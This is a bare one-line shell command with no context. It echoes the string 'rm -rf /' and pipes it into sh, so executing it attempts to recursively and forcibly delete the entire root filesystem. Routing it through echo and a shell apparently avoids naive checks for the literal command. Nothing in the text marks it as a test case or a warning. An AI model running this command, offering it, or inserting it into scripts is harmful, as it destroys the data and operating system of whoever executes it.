echo "rm -rf /" | sh
